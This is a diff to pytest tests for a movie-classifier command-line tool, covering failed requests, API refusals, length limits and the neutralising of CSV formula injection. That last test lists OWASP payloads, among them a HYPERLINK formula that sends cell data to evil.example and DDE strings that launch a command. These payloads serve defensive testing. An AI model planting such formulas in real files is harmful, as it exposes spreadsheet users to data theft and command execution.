@@ -6,8 +6,9 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
+from click.testing import CliRunner, Result
 
+from genre_model.movie_fields import MAX_TITLE_CHARS, MAX_WORD_CHARS
 from movie_classifier.main import main
 from tests.helpers.fake_api import Answer, fake_api
 
@@ -71,27 +72,105 @@ def test_csv_output_has_a_column_per_score(tmp_path: Path) -> None:
     assert records[0]["score_Drama"] == "0.7" and records[0]["genres"] == "Drama"
 
 
-def test_a_failed_run_leaves_no_output_file(tmp_path: Path) -> None:
+def run_against(url: str, source: Path, output: Path, *extra: str) -> Result:
+    arguments = ["--endpoint", url, "--file", str(source), "--output", str(output), *extra]
+    return CliRunner().invoke(main, arguments)
+
+
+def test_a_request_that_fails_whole_stops_the_run_and_keeps_the_rows_scored(
+    tmp_path: Path,
+) -> None:
     source = write(tmp_path / "in.csv", movies(10))
-    with fake_api([Answer(), Answer(500, {"message": "Internal Server Error"})]) as (url, _):
-        result = CliRunner().invoke(
-            main,
-            [
-                "--endpoint",
-                url,
-                "--file",
-                str(source),
-                "--output",
-                str(tmp_path / "out.jsonl"),
-                "--batch-size",
-                "2",
-                "--concurrency",
-                "1",
-            ],
-        )
+    output = tmp_path / "out.jsonl"
+    answers = [Answer(), Answer(500, {"message": "Internal Server Error"})]
+    with fake_api(answers) as (url, received):
+        result = run_against(url, source, output, "--batch-size", "2", "--concurrency", "1")
     assert result.exit_code == 7
-    assert "HTTP 500" in result.output
-    assert list(tmp_path.iterdir()) == [source]
+    assert len(received) == 2  # the chunks after the failure are never sent
+    lines = [json.loads(line) for line in output.read_text().splitlines()]
+    assert [line["row"] for line in lines] == list(range(1, 11))
+    assert [line.get("genre") for line in lines[:2]] == ["Drama", "Drama"]
+    assert all(line["error"].startswith("not run: the run stopped (") for line in lines[2:])
+    assert "HTTP 500" in lines[2]["error"]
+    assert "2 of 10 rows classified" in result.output
+    assert "the run stopped there: the 2 rows scored before it are in" in result.output
+    assert "the 8 rows not sent are marked 'not run'" in result.output
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.jsonl"]  # no temporary
+
+
+def test_a_chunk_the_api_refuses_is_sent_again_row_by_row(tmp_path: Path) -> None:
+    """A rule of the server's alone (the CLI's own checks pass the row) still lands on its row:
+    the other rows of the chunk are scored."""
+    rows = movies(10)
+    rows[6]["title"] = "Movie FORBIDDEN"
+    source = write(tmp_path / "in.csv", rows)
+    output = tmp_path / "out.jsonl"
+    with fake_api([Answer(refuse_title="FORBIDDEN")]) as (url, received):
+        result = run_against(url, source, output, "--batch-size", "4", "--concurrency", "2")
+    assert result.exit_code == 0, result.output
+    assert sorted(len(body["movies"]) for body in received) == [1, 1, 1, 1, 2, 4, 4]
+    lines = [json.loads(line) for line in output.read_text().splitlines()]
+    assert [line["row"] for line in lines if "genre" in line] == [1, 2, 3, 4, 5, 6, 8, 9, 10]
+    assert lines[6]["error"] == "refused by the API: title: no FORBIDDEN"
+    assert "9 of 10 rows classified" in result.output
+    assert "row 7 skipped: refused by the API: title: no FORBIDDEN" in result.output
+
+
+def test_rows_over_the_apis_limits_are_refused_before_sending(tmp_path: Path) -> None:
+    rows = movies(5)
+    rows[1]["title"] = "T" * (MAX_TITLE_CHARS + 1)
+    rows[3]["description"] = "plot " + "w" * (MAX_WORD_CHARS + 1)
+    source = write(tmp_path / "in.csv", rows)
+    with fake_api([Answer()]) as (url, received):
+        result = run_against(url, source, tmp_path / "out.jsonl")
+    assert result.exit_code == 0, result.output
+    assert [len(body["movies"]) for body in received] == [3]
+    assert f"row 2 skipped: title over {MAX_TITLE_CHARS} characters" in result.output
+    assert f"row 4 skipped: description has a word over {MAX_WORD_CHARS} characters" in (
+        result.output
+    )
+
+
+OWASP_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&C3,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
+    rows = [{"title": payload, "description": payload} for payload in OWASP_PAYLOADS]
+    rows.append({"title": "Othello", "description": "A plain plot."})
+    source = write(tmp_path / "in.csv", rows)
+    with fake_api([Answer()]) as (url, _):
+        neutral = run_against(url, source, tmp_path / "safe.csv")
+        raw = run_against(url, source, tmp_path / "raw.csv", "--raw-csv")
+    assert neutral.exit_code == raw.exit_code == 0, neutral.output + raw.output
+    with (tmp_path / "safe.csv").open(newline="") as stream:
+        safe = list(csv.DictReader(stream))
+    with (tmp_path / "raw.csv").open(newline="") as stream:
+        written = list(csv.DictReader(stream))
+    for record, payload in zip(safe, OWASP_PAYLOADS, strict=False):
+        assert record["title"] == record["description"] == "'" + payload
+    assert safe[-1]["title"] == "Othello"  # anything else as it is
+    # OWASP's rule: no cell of the file begins with = + - @ tab or carriage return.
+    cells = [value for record in safe for value in record.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [record["title"] for record in written[:-1]] == OWASP_PAYLOADS
+
+
+def test_an_output_in_a_folder_that_does_not_exist_is_refused_before_any_work(
+    tmp_path: Path,
+) -> None:
+    source = write(tmp_path / "in.csv", movies(2))
+    with fake_api([Answer()]) as (url, received):
+        result = run_against(url, source, tmp_path / "no-such-folder" / "out.jsonl")
+    assert result.exit_code == 2
+    assert "the folder" in result.output and "does not exist" in result.output
+    assert received == [] and not (tmp_path / "no-such-folder").exists()
 
 
 @pytest.mark.parametrize(
@@ -165,11 +244,11 @@ def test_a_new_output_file_gets_ordinary_permissions(
     tmp_path: Path, suffix: str, umask_022: None
 ) -> None:
     source = write(tmp_path / "in.csv", movies(3))
-    output = tmp_path / "new" / f"out{suffix}"
+    output = tmp_path / f"out{suffix}"
     with fake_api([Answer()]) as (url, _):
         run_file(source, output, url)
     assert stat.S_IMODE(output.stat().st_mode) == 0o644
-    assert sorted(p.name for p in output.parent.iterdir()) == [output.name]  # no temporary left
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", output.name]  # no temporary
 
 
 def test_a_replaced_output_file_keeps_its_permissions(tmp_path: Path, umask_022: None) -> None:
@@ -185,8 +264,7 @@ def test_a_replaced_output_file_keeps_its_permissions(tmp_path: Path, umask_022:
 
 def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
     source = write(tmp_path / "in.csv", movies(2))
-    (tmp_path / "a-file").write_text("")
-    output = tmp_path / "a-file" / "out.jsonl"
+    output = Path("/proc/out.jsonl")  # a folder where no file can be made
     with fake_api([Answer()]) as (url, _):
         result = CliRunner().invoke(
             main, ["--endpoint", url, "--file", str(source), "--output", str(output)]
